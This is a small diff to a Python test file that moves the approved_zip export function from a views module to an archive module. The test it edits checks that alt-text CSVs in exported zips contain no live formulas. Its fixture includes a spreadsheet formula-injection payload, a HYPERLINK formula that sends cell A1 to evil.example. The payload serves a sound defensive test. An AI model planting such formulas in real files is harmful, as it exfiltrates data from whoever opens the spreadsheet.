@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 from sqlmodel import select, text
 
-from lib import cli, views
+from lib import archive, cli
 from lib.connections import list_connections, read_secret
 from lib.spreadsheet import csv_text, inert_cell
 from tests.emulators.gemini import VALID_KEY
@@ -41,7 +41,7 @@ def test_alt_text_csv_in_the_zip_has_no_live_formula(rt):
             asset.alt_text = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
             asset.review_state = "approved"
             s.add(asset)
-    data, n = views.approved_zip(rt, job_id)
+    data, n = archive.approved_zip(rt, job_id)
     assert n >= 1
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
         rows = list(csv.reader(io.StringIO(zf.read("alt-text.csv").decode())))
